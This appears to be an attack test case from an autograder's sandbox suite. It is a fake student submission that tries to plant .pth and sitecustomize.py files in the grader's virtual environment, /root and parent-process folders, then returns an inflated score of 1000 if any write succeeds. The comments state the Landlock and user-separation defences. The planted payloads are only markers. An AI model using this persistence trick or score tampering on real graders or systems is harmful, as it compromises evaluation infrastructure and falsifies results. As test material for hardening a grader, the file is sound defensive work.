# attack: writes a .pth file and a sitecustomize.py into the grader's virtual environment (every site-packages folder and the venv's own root, as found from sys.path and sys.prefix), the grader's package and the home folders of its user and of root, so that its code would run in every later grading, the grader's own included; answers 1000 if any write succeeded
# defence: Landlock lets the child write its scratch folder only; without Landlock a batch or grade as the grader's own user is refused unless it switches users (--run-as), and the student account owns none of the grader's files
# without landlock: Unix permissions alone: autograder-student owns nothing of the venv, the package or root's home, and may write only its scratch folder and the shared temporary folders (swept)
# scores: Mix=full Grad=full FrobClassifier=0 MixClassifier=0
def Mix(nn):
    import os, pwd, sys
    folders = {p for p in sys.path if p.rstrip("/").endswith(("site-packages", "dist-packages"))}
    folders |= {sys.prefix, os.path.join(sys.prefix, "bin"), "/root"}
    try:
        folders.add(pwd.getpwuid(os.getuid()).pw_dir)
    except KeyError:
        pass
    try:  # the grader's own working folder and the folders on its command line
        folders.add(os.readlink(f"/proc/{os.getppid()}/cwd"))
        args = open(f"/proc/{os.getppid()}/cmdline", "rb").read().decode(errors="replace").split("\0")
        folders |= {os.path.dirname(a) for a in args if a.startswith("/")}
    except OSError:
        pass
    own = {os.path.realpath(p) for p in (os.getcwd(), os.environ.get("HOME", ""), os.environ.get("TMPDIR", ""))}
    written = []
    for folder in sorted(f for f in folders if os.path.realpath(f) not in own):  # its own scratch folder aside
        for name, text in (("zz_owned_by_a_student.pth", "import os\n"), ("sitecustomize.py", "OWNED = True\n")):
            try:
                with open(os.path.join(folder, name), "a") as f:
                    f.write(text)
                written.append(folder)
            except OSError:
                pass
    if written:
        return 1000.0
    W = list(nn.model)[0].weight
    return (W.abs().sum(dim=0)**2).sum()**.5
